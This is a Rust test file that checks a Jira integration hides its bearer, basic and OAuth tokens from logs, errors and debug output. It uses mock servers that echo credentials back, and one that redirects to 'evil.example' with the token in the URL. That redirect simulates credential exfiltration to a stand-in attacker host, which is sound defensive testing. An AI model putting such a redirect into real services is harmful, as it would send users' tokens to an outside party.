//! The token is told to Jira and to nobody else. What listens must listen everywhere: this file has
//! one test.

#![cfg(feature = "jira")]

mod jira_support;

use std::io;
use std::sync::{Arc, Mutex};

use jira_support::{Answer, Edition, Manner, Server, TOKEN, answer, jira, settings, toolkit_of};
use prowess_runtime::Toolkit;
use serde_json::json;

#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl io::Write for Log {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn the_token_is_in_no_log_no_error_and_no_debug() {
    let log = Log::default();
    let writer = log.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_writer(move || writer.clone())
        .with_ansi(false)
        .finish();
    tracing::subscriber::set_global_default(subscriber).unwrap();
    tracing::info!("control: {TOKEN}");
    assert!(String::from_utf8_lossy(&log.0.lock().unwrap()).contains(TOKEN), "the log is read");
    log.0.lock().unwrap().clear();

    // Jira itself repeats what it was sent.
    let echo = Server::start(|request| {
        let header = &request.headers["authorization"];
        Answer::json(400, &json!({"errorMessages": [format!("You sent {header}")]}))
    });
    let redirecting = Server::start(|request| {
        let token = request.headers["authorization"].rsplit(' ').next().unwrap().to_owned();
        Answer::redirect(&format!("http://evil.example/{token}?{token}"))
    });
    let labelling = Server::start(|request| {
        Answer::of(200, &request.headers["authorization"], "<html>not JSON</html>")
    });
    let repeating = Server::start(|request| {
        let header = &request.headers["authorization"];
        Answer::ok(&json!({"deploymentType": "Server", "key": "PROJ-1", "fields": {
            "summary": header, "description": format!("It was sent {header}.")}}))
    });
    let servers = [
        jira(Edition::Cloud),
        jira(Edition::DataCenter),
        echo,
        redirecting,
        labelling,
        repeating,
        Server::of(vec![Answer::html(500, "").in_manner(Manner::BreakOff)]),
        Server::start(|request| {
            answer(Edition::Cloud, &jira_support::Request { path: "/".into(), ..request.clone() })
        }),
    ];
    let basic = [("JIRA_USERNAME", "me"), ("JIRA_API_TOKEN", TOKEN)];
    let secrets = [TOKEN, "bWU6czNjcmV0LXRva2VuLW9mLXRoZS10ZXN0"];
    let mut told = String::new();
    for server in &servers {
        let url = server.url("context");
        for credentials in [&[("JIRA_BEARER_TOKEN", TOKEN)][..], &basic] {
            let variables = [&[("JIRA_URL", url.as_str())], credentials].concat();
            let jira = toolkit_of(&variables, settings().with_max_retries(1));
            told.push_str(&format!("{jira:?} {:?}", jira.handlers()));
            told.push_str(&format!("{:?}", jira.opening().await));
            for method in ["search_issues", "get_issue", "list_projects", "get_comments"] {
                let arguments = json!({"jql": "project = PROJ", "issue_key": "PROJ-1"});
                told.push_str(&format!("{:?}", jira.call(method, &arguments).await));
            }
        }
        assert!(server.seen().iter().any(|request| request.headers.contains_key("authorization")));
    }
    assert!(told.contains("You sent Bearer [hidden]"), "{told}");
    assert!(told.contains("You sent Basic [hidden]"), "{told}");
    assert!(told.contains("It was sent Bearer [hidden]."), "{told}");
    assert!(told.contains("it is called Bearer [hidden]"), "{told}");
    // What renews tokens is told more than one.
    let oauth = [
        ("JIRA_CLOUD_ID", "11aa-22"),
        ("JIRA_CLIENT_ID", "me"),
        ("JIRA_CLIENT_SECRET", "client-s3cret"),
        ("JIRA_REFRESH_TOKEN", "first-s3cret"),
    ];
    let atlassian = Server::start(|request| {
        match (request.path.as_str(), request.body.contains("first-s3cret")) {
            ("/token", true) => Answer::ok(
                &json!({"access_token": "access-s3cret", "refresh_token": "second-s3cret"}),
            ),
            ("/token", false) => {
                let error = json!({"error": "no", "error_description": request.body});
                Answer::json(400, &error)
            }
            (_, _) => Answer::json(401, &json!({"message": request.headers["authorization"]})),
        }
    });
    let at = settings().with_gateway(atlassian.url("")).with_token_url(atlassian.url("token"));
    let jira = toolkit_of(&oauth, at);
    for _ in 0..2 {
        let outcome = jira.call("get_issue", &json!({"issue_key": "PROJ-1"})).await;
        assert_eq!(outcome.code, "jira_refresh_refused", "{}", outcome.content);
        told.push_str(&format!("{outcome:?} {jira:?} {:?}", jira.opening().await));
    }
    assert!(atlassian.seen().iter().any(|request| request.body.contains("second-s3cret")));
    let logged = String::from_utf8_lossy(&log.0.lock().unwrap()).into_owned();
    assert!(logged.contains("the access token of Jira was renewed"));
    assert!(logged.contains("Jira has answered") && logged.contains("Jira has failed"));
    for secret in secrets.into_iter().chain(["s3cret"]) {
        assert!(!told.contains(secret), "{told}");
        assert!(!logged.contains(secret), "{logged}");
    }
}
